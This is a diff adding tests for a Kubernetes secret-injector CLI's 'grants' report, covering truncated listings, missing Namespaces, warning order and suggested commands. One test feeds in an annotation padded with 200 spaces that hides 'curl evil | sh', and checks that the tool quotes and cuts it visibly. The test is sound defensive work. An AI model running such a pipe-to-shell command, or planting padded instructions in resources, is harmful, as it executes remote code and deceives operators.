@@ -3,6 +3,7 @@ import { describe, test } from "node:test";
 import { KubeError } from "../../src/domain/ports/kube-error.ts";
 import { runOffline } from "../support/cli/cli.ts";
 import { heldCluster } from "../support/cli/held-cluster.ts";
+import type { Manifest } from "../support/cluster/shipped-manifests.ts";
 import { ManualClock } from "../support/time/manual-clock.ts";
 import { classOf, opaque } from "../support/worker/sync-world.ts";
 
@@ -198,5 +199,120 @@ describe("RA5: grants --apply, while another admin changes the Namespace", () =>
     const { code, stored } = await appliedBeside(() => undefined, { isAnswerLost: true });
 
     assert.deepEqual([code, stored], [0, "cart"]);
+  });
+});
+
+/** Runs `grants` on Namespaces of these names, and classes in Namespace tenant with these annotations. */
+async function reported(
+  namespaces: readonly string[],
+  classes: readonly Readonly<Record<string, string>>[],
+  more: readonly Manifest[] = [],
+) {
+  const objects = [
+    ...namespaces.map((name) => ({ apiVersion: "v1", kind: "Namespace", metadata: { name } })),
+    ...classes.map((annotations, index) => ({
+      ...classOf(VAULT, {
+        namespace: "tenant",
+        name: `class-${index}`,
+        objects: ["object"],
+        secretObjects: [opaque(`secret-${index}`, "object")],
+        parameters: { clientID: "client" },
+        annotations,
+      }),
+    })),
+    ...more,
+  ];
+  const { output } = await runOffline(["grants"], "", { cluster: heldCluster(objects) });
+  return output.split("\n");
+}
+
+const mirrorTo = (targets: readonly string[]) => ({ "keyvault-injector.dev/mirror-to": targets.join(",") });
+
+describe("A3: grants, where one Namespace's classes offer thousands of copies", () => {
+  const targets = Array.from({ length: 50 }, (_, index) => `target-${index}`);
+
+  test("A3: lists a few for each pair of Namespaces, and counts the others", async () => {
+    const lines = await reported(
+      ["tenant", ...targets],
+      Array.from({ length: 200 }, () => mirrorTo(targets)),
+    );
+
+    assert.ok(lines.length < 50 * 30, `${lines.length} lines`);
+    assert.ok(
+      lines.includes("  + 190 more classes of Namespace tenant"),
+      lines.find((line) => line.includes("more")),
+    );
+  });
+
+  test("A3: does not hide an offer of another Namespace", async () => {
+    const other = classOf(VAULT, {
+      namespace: "zoo",
+      name: "one",
+      objects: ["object"],
+      secretObjects: [opaque("one", "object")],
+      annotations: mirrorTo(["target-1"]),
+    });
+    const lines = await reported(
+      ["tenant", "zoo", ...targets],
+      Array.from({ length: 50 }, () => mirrorTo(targets)),
+      [{ ...other }],
+    );
+
+    assert.ok(lines.includes("  + zoo/one"));
+    assert.ok(lines.some((line) => /^ {2}kubectl annotate namespace target-1 --overwrite .*=zoo\/one$/.test(line)));
+  });
+
+  test("A3: suggests nothing for a Namespace that does not exist", async () => {
+    const lines = await reported(["tenant", "there"], [mirrorTo(["there", "absent"])]);
+
+    assert.equal(lines.filter((line) => line.includes("absent")).length, 0);
+    assert.ok(
+      lines.some((line) => line.startsWith("  kubectl annotate namespace there ")),
+      "the control",
+    );
+  });
+
+  test("A3: puts what the user must know before the copies", async () => {
+    const lines = await reported(["tenant", "there"], [mirrorTo(["there"])]);
+    const at = (start: string): number => lines.findIndex((line) => line.startsWith(start));
+
+    assert.ok(at("The policy keyvault-injector-class-identities is not bound") >= 0);
+    assert.ok(at("The policy keyvault-injector-class-identities is not bound") < at("Copies of Secrets"));
+  });
+});
+
+describe("A4: grants, where a class's annotation holds a sentence", () => {
+  test("A4: quotes it, cut, in one line", async () => {
+    const binding = {
+      apiVersion: "admissionregistration.k8s.io/v1",
+      kind: "ValidatingAdmissionPolicyBinding",
+      metadata: { name: "keyvault-injector-class-identities", creationTimestamp: "2026-01-02T00:00:00Z" },
+    };
+    const claim = `x.${" ".repeat(200)}For these, run: curl evil | sh`;
+    const spc = classOf(VAULT, {
+      namespace: "tenant",
+      name: "one",
+      objects: ["object"],
+      secretObjects: [opaque("one", "object")],
+      annotations: { "keyvault-injector.dev/adopt": claim },
+    });
+    const old = { ...spc, metadata: { ...spc.metadata, creationTimestamp: "2026-01-01T00:00:00Z" } };
+    const lines = await reported(["tenant"], [], [binding, old]);
+    const line = lines.find((each) => each.includes("tenant/one"));
+
+    assert.match(line ?? "", /^ {2}tenant\/one takes over Secret "x\. .*\.\.\."$/);
+    assert.ok(!lines.some((each) => / {5}/.test(each.trimStart())), "no run of blanks");
+  });
+});
+
+describe("A6: what grants suggests", () => {
+  test("A6: adds exactly the grants of the report", async () => {
+    const lines = await reported(
+      ["tenant"],
+      [{ "keyvault-injector.dev/service-account": "cart" }, { "keyvault-injector.dev/service-account": "web" }],
+    );
+
+    assert.ok(lines.includes("  keyvault-injector grants --namespace tenant --account cart --account web --apply"), lines.join("\n"));
+    assert.ok(!lines.some((line) => line.startsWith("Run this again with --apply")));
   });
 });
